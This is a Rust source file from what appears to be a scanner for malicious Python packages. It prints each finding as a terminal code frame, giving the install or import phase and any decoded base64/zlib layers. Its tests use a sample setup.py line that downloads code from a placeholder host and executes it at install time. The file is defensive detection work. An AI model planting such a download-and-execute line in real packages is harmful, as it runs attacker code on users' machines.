//! A code frame on a terminal: numbered lines, the span underlined.

use model::{Finding, Frame, FrameLine, Phase, Place};

use super::human::Paint;
use super::text::{Shown, shown};

/// Lines of one frame that are printed.
const LINES: usize = 12;

/// Where a finding is: member, line, phase and the decoded layers above it.
pub(crate) fn place(finding: &Finding) -> String {
    place_of(&finding.place, finding.phase)
}

pub(super) fn place_of(place: &Place, phase: Option<Phase>) -> String {
    let mut text = shown(if place.member.is_empty() { "the archive itself" } else { &place.member });
    if place.line > 0 {
        text.push_str(&format!(":{}", place.line));
        if place.column > 0 {
            text.push_str(&format!(":{}", place.column));
        }
    }
    if let Some(phase) = phase {
        text.push_str(match phase {
            Phase::Install => " · runs on install",
            Phase::Startup => " · runs when Python starts",
            Phase::Import => " · runs on import",
            Phase::Call => " · runs when called",
            Phase::Never => " · runs only if somebody starts it",
        });
    }
    let layers = &place.layers;
    if !layers.is_empty() {
        let chain = layers.iter().map(|step| shown(&step.operations.join(" → "))).collect::<Vec<_>>().join(" ⇒ ");
        let from = layers.first().map_or(0, |step| step.line);
        text.push_str(&format!(" · decoded layer {} ({chain}, made at line {from})", layers.len()));
    }
    text
}

/// The frame of a finding, or its evidence where there is no code to show or it was shown before.
pub(super) fn render(finding: &Finding, again: bool, paint: Paint, output: &mut String) {
    let Some(frame) = finding.frame.as_ref().filter(|frame| !frame.lines.is_empty() && !again) else {
        if !finding.evidence.is_empty() {
            output.push_str(&format!("       {} {}\n", paint.dim("="), shown(&finding.evidence)));
        }
        return;
    };
    let width = frame.lines.iter().map(|line| line.number.to_string().len()).max().unwrap_or(1).max(4);
    let last = frame.lines.iter().rposition(|line| !line.text.trim().is_empty()).map_or(0, |last| last + 1);
    let first = frame.lines.iter().position(|line| !line.text.trim().is_empty()).unwrap_or_default();
    let lines = frame.lines.get(first..last).unwrap_or_default();
    for line in lines.iter().take(LINES) {
        render_line(line, width, paint, output);
    }
    let left = lines.len().saturating_sub(LINES);
    if left > 0 {
        output.push_str(&format!("  {:width$} {} {left} more lines\n", "", paint.dim("┆")));
    }
    if !finding.evidence.is_empty() && !is_in(&finding.evidence, frame) {
        output.push_str(&format!("  {:width$} {} {}\n", "", paint.dim("="), shown(&finding.evidence)));
    }
}

fn render_line(line: &FrameLine, width: usize, paint: Paint, output: &mut String) {
    let text = Shown::new(&line.text);
    let before = if line.cut_before > 0 { "…" } else { "" };
    let after = if line.cut_after > 0 { format!("… {} more characters", line.cut_after) } else { String::new() };
    let number = paint.dim(&format!("{:width$} │", line.number));
    output.push_str(&format!("  {number} {before}{}{}\n", text.text(), paint.dim(&after)));
    if let Some((start, end)) = line.mark {
        let (blank, marked) = text.columns((start as usize, end as usize));
        let blank = blank + before.chars().count();
        let marks = paint.mark(&"^".repeat(marked.max(1)));
        output.push_str(&format!("  {:width$} {} {:blank$}{marks}\n", "", paint.dim("│"), ""));
    }
}

/// Whether the marked text is the evidence: it is not said twice.
fn is_in(evidence: &str, frame: &Frame) -> bool {
    frame.lines.iter().any(|line| line.text.contains(evidence))
}

#[cfg(test)]
mod tests {
    use super::*;
    use model::{Digest, LayerStep, Level, Phase, Place, RuleStatus};

    fn finding() -> Finding {
        Finding {
            rule: "network-then-exec".to_owned(),
            title: "Downloads and runs".to_owned(),
            level: Level::High,
            family: "flow".to_owned(),
            status: RuleStatus::Stable,
            tags: Vec::new(),
            place: Place { member: "p-1/setup.py".to_owned(), line: 14, column: 1, ..Place::default() },
            phase: Some(Phase::Install),
            evidence: "exec(get('http://a.test'))".to_owned(),
            frame: Some(Frame {
                lines: vec![FrameLine {
                    number: 14,
                    text: "x = 1; exec(get('http://a.test'))".to_owned(),
                    mark: Some((7, 33)),
                    ..FrameLine::default()
                }],
            }),
            weight: 3.0,
            novel: false,
        }
    }

    #[test]
    fn the_span_is_underlined_even_when_it_is_shown_longer_than_it_is() {
        let mut output = String::new();
        render(&finding(), false, Paint::plain(), &mut output);
        let expected = "    14 │ x = 1; exec(get('hxxp://a[.]test'))\n       │        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^\n";
        assert_eq!(output, expected);
    }

    #[test]
    fn a_place_says_when_it_runs_and_how_it_was_decoded() {
        let mut finding = finding();
        assert_eq!(place(&finding), "p-1/setup.py:14:1 · runs on install");
        finding.place.layers = vec![LayerStep {
            operations: vec!["base64".to_owned(), "zlib".to_owned()],
            line: 3,
            size: 10,
            sha256: Digest::of(b""),
        }];
        assert!(place(&finding).ends_with("decoded layer 1 (base64 → zlib, made at line 3)"));
    }

    #[test]
    fn evidence_without_code_is_still_said() {
        let mut output = String::new();
        let finding = Finding { frame: None, evidence: "a\u{1b}b".to_owned(), ..finding() };
        render(&finding, false, Paint::plain(), &mut output);
        assert_eq!(output, "       = a⟨U+001B⟩b\n");
    }
}
